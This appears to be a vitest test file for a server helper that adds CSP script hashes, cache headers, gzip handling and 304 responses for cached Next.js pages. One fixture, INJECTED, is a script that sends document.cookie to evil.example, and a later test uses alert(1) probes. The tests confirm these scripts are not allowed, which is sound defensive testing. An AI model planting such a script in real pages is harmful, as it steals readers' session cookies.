import { createHash } from 'node:crypto';
import { createRequire } from 'node:module';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CACHED_RESPONSE_HEADER, finishCachedResponse, inlineScriptHashes } from './cached-response.mjs';

/**
 * scripts/server.mjs finishes the readers' responses proxy.ts marks: the policy of cached HTML gets the hashes of
 * exactly Next's inline scripts, Next's year-long s-maxage becomes "ask every time", and conditional GETs get 304.
 * Exercised on a real HTTP server whose handler writes the way Next does (headers, then chunks, maybe gzip).
 */
const require = createRequire(import.meta.url);
const POLICY = "default-src 'self'; script-src 'self'; object-src 'none'";
const sha = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
const PAYLOAD = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});';
const INJECTED = 'fetch("https://evil.example/?c="+document.cookie)';
const PAGE = `<!doctype html><html><head><script src="/_next/static/chunks/main.js" async></script><script>${TURBOPACK}</script></head><body><p>Ceasefire</p><p>${'Both sides accused each other of shelling. '.repeat(40)}</p><script>${BOOTSTRAP}</script><script>${PAYLOAD}</script><script>${INJECTED}</script></body></html>`;

type Handler = (request: http.IncomingMessage, response: http.ServerResponse) => void;
let handler: Handler = () => undefined;
let server: http.Server;
let origin = '';

beforeAll(async () => {
  server = http.createServer((request, response) => {
    finishCachedResponse(request, response);
    handler(request, response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

/** A page the way Next sends a cached one: marked by the proxy, head first, the body in a few chunks. */
const nextLike =
  ({ marked = true, gzip = false, type = 'text/html; charset=utf-8', body = PAGE, status = 200, etag = '"abc123"' as string | null } = {}): Handler =>
  (_request, response) => {
    response.setHeader('Content-Security-Policy', POLICY);
    if (marked) response.setHeader(CACHED_RESPONSE_HEADER, '1');
    response.setHeader('Cache-Control', 's-maxage=31536000');
    if (etag) response.setHeader('ETag', etag);
    response.setHeader('Content-Type', type);
    const bytes = gzip ? zlib.gzipSync(body) : Buffer.from(body);
    if (gzip) response.setHeader('Content-Encoding', 'gzip');
    response.writeHead(status);
    const third = Math.ceil(bytes.length / 3);
    response.write(bytes.subarray(0, third));
    response.write(bytes.subarray(third, 2 * third));
    response.end(bytes.subarray(2 * third));
  };

const get = async (path = '/', headers: Record<string, string> = {}) => {
  const response = await fetch(`${origin}${path}`, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
};
const scriptSrc = (policy: string | null) => /script-src ([^;]*)/.exec(policy ?? '')?.[1]?.split(' ') ?? [];

describe('finishCachedResponse', () => {
  it("allows exactly Next's inline scripts by hash, not an injected one, and sends the page unchanged", async () => {
    handler = nextLike();
    const response = await get();
    expect(response.text).toBe(PAGE);
    expect(scriptSrc(response.headers.get('content-security-policy')).sort()).toEqual(["'self'", sha(TURBOPACK), sha(BOOTSTRAP), sha(PAYLOAD)].sort());
    expect(response.headers.get('content-security-policy')).toContain("object-src 'none'");
    expect(response.headers.get(CACHED_RESPONSE_HEADER)).toBeNull();
    expect(response.headers.get('cache-control')).toBe('public, no-cache');
  });

  it('reads a gzipped page to hash it and sends the same compressed bytes', async () => {
    handler = nextLike({ gzip: true });
    const raw = await new Promise<{ headers: http.IncomingHttpHeaders; body: Buffer }>((resolve, reject) => {
      http.get(`${origin}/`, (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => resolve({ headers: response.headers, body: Buffer.concat(chunks) }));
      }).on('error', reject);
    });
    expect(raw.headers['content-encoding']).toBe('gzip');
    expect(Number(raw.headers['content-length'])).toBe(raw.body.length);
    expect(zlib.gunzipSync(raw.body).toString()).toBe(PAGE);
    expect(scriptSrc(String(raw.headers['content-security-policy']))).toContain(sha(PAYLOAD));
  });

  it("works under Next's own compression, which wraps the response after this does (pages and other files)", async () => {
    const compress = (require('next/dist/compiled/compression') as () => (req: unknown, res: unknown, next: () => void) => void)();
    for (const [marked, path] of [[true, '/d/x'], [false, '/desk']] as const) {
      handler = (request, response) => compress(request, response, () => nextLike({ marked })(request, response));
      const response = await fetch(`${origin}${path}`, { headers: { 'accept-encoding': 'gzip' } });
      expect(response.headers.get('content-encoding'), `marked: ${marked}`).toBe('gzip');
      expect(await response.text()).toBe(PAGE);
      expect(scriptSrc(response.headers.get('content-security-policy')).includes(sha(PAYLOAD))).toBe(marked);
    }
    handler = (request, response) => compress(request, response, () => nextLike()(request, response));
    expect((await get('/', { 'accept-encoding': 'gzip', 'if-none-match': '"abc123"' })).status).toBe(304);
  });

  it('compresses a reader’s page itself, once per page content, and sends it plain to a client that takes no gzip', async () => {
    let compressedByNext = 0;
    handler = (request, response) => {
      if (String(request.headers['accept-encoding'] ?? '').includes('gzip')) compressedByNext += 1;
      nextLike()(request, response);
    };
    const zipped = await new Promise<{ headers: http.IncomingHttpHeaders; body: Buffer }>((resolve, reject) => {
      http.get(`${origin}/d/x`, { headers: { 'accept-encoding': 'gzip, br' } }, (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => resolve({ headers: response.headers, body: Buffer.concat(chunks) }));
      }).on('error', reject);
    });
    expect(compressedByNext, 'Next is asked for the page uncompressed').toBe(0);
    expect(zipped.headers['content-encoding']).toBe('gzip');
    expect(zipped.headers.vary).toMatch(/accept-encoding/i);
    expect(zlib.gunzipSync(zipped.body).toString()).toBe(PAGE);
    const plain = await get('/d/x', { 'accept-encoding': 'identity' });
    expect(plain.headers.get('content-encoding')).toBeNull();
    expect(plain.text).toBe(PAGE);
    expect(scriptSrc(plain.headers.get('content-security-policy'))).toContain(sha(PAYLOAD));
  });

  it('answers a conditional GET naming the current ETag with 304 and no body, another with the page', async () => {
    handler = nextLike({ type: 'text/csv; charset=utf-8', body: 'title\nCeasefire\n' });
    const unchanged = await get('/d/x/sources.csv', { 'if-none-match': 'W/"zzz", "abc123"' });
    expect(unchanged.status).toBe(304);
    expect(unchanged.text).toBe('');
    const changed = await get('/d/x/sources.csv', { 'if-none-match': '"older"' });
    expect(changed.status).toBe(200);
    expect(changed.text).toBe('title\nCeasefire\n');
  });

  it('gives a page without an ETag (Next sends none) one from its content, and 304 when the reader has it', async () => {
    handler = nextLike({ etag: null });
    const first = await get('/d/x');
    const etag = first.headers.get('etag') ?? '';
    expect(etag).toMatch(/^W\/"[0-9a-z]+-[0-9a-z]+"$/);
    expect((await get('/d/x', { 'accept-encoding': 'gzip' })).headers.get('etag')).toBe(etag);
    const again = await get('/d/x', { 'if-none-match': etag });
    expect(again.status).toBe(304);
    expect(again.text).toBe('');
    expect(again.headers.get('content-security-policy')).toContain(sha(PAYLOAD));
    handler = nextLike({ etag: null, body: PAGE.replace('Ceasefire', 'Truce') });
    expect((await get('/d/x', { 'if-none-match': etag })).status).toBe(200);
  });

  it('leaves unmarked responses (desk pages, API) exactly as they were', async () => {
    handler = nextLike({ marked: false });
    const response = await get('/', { 'if-none-match': '"abc123"' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-security-policy')).toBe(POLICY);
    expect(response.headers.get('cache-control')).toBe('s-maxage=31536000');
  });

  it('keeps the policy without hashes when the body cannot be read', async () => {
    handler = (_request, response) => {
      response.setHeader('Content-Security-Policy', POLICY);
      response.setHeader(CACHED_RESPONSE_HEADER, '1');
      response.setHeader('Content-Type', 'text/html');
      response.setHeader('Content-Encoding', 'gzip');
      response.end(Buffer.from(PAGE));
    };
    const response = await fetch(`${origin}/`).catch(() => null);
    // The client cannot decode it either; what matters is that nothing was allowed.
    expect(scriptSrc(response?.headers.get('content-security-policy') ?? POLICY)).toEqual(["'self'"]);
  });
});

describe('inlineScriptHashes', () => {
  it('skips external scripts and anything not shaped like Next or React inline code', () => {
    expect(inlineScriptHashes(PAGE)).toHaveLength(3);
    expect(inlineScriptHashes(`<script>$RC=function(b,c){}</script><script type="text/javascript">alert(1)</script>`)).toEqual([sha('$RC=function(b,c){}')]);
    expect(inlineScriptHashes(`<script>self.__next_f.push([1,"x"]);alert(1)</script>`)).toEqual([]);
  });
});
